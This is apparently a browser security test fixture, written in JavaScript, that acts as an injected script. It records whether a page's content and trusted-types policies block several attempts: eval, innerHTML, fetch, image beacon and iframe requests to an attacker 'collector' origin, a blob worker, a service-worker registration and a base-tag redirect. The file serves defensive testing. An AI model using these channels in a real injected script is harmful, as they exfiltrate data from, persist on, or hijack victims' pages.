// The attempts of an injected script. `collector` is the attacker's origin, from the query.
const collector = new URLSearchParams(location.search).get('collector');
const ran = document.documentElement.dataset;

async function attempt(name, deed) {
  try {
    await deed();
    ran[name] = 'ran';
  } catch {
    // Blocked.
  }
}

function loaded(element) {
  return new Promise((resolve, reject) => {
    element.onload = resolve;
    element.onerror = reject;
    document.body.append(element);
  });
}

async function all() {
  // biome-ignore lint/security/noGlobalEval: the policy must refuse it
  await attempt('eval', () => eval('1'));
  await attempt('html', () => {
    document.createElement('div').innerHTML = '<b>x</b>';
  });
  await attempt('fetch', () => fetch(`${collector}/fetch`, { mode: 'no-cors' }));
  await attempt('beacon', () => loaded(Object.assign(new Image(), { src: `${collector}/beacon` })));
  await attempt('frame', () => {
    const frame = document.createElement('iframe');
    frame.src = `${collector}/frame`;
    return loaded(frame);
  });
  await attempt('worker', () => {
    const address = URL.createObjectURL(new Blob(['postMessage(1)']));
    return new Promise((resolve, reject) => {
      const worker = new Worker(address);
      worker.onmessage = resolve;
      worker.onerror = reject;
    });
  });
  // A worker would stay after the fault is mended. The policy allows this name once: here before the portal uses it.
  await attempt('install', async () => {
    const rules = { createScriptURL: (address) => address };
    const policy = trustedTypes.createPolicy('emergency-worker', rules);
    const script = policy.createScriptURL('/sw-off.js');
    await (await navigator.serviceWorker.register(script)).unregister();
  });
  await attempt('base', () => {
    const base = document.createElement('base');
    base.href = `${collector}/`;
    document.head.prepend(base);
    const moved = document.baseURI.startsWith(collector);
    base.remove();
    if (!moved) throw new Error('refused');
  });
  ran.done = 'yes';
}
// The page's elements have loaded or failed.
addEventListener('load', () => setTimeout(all));
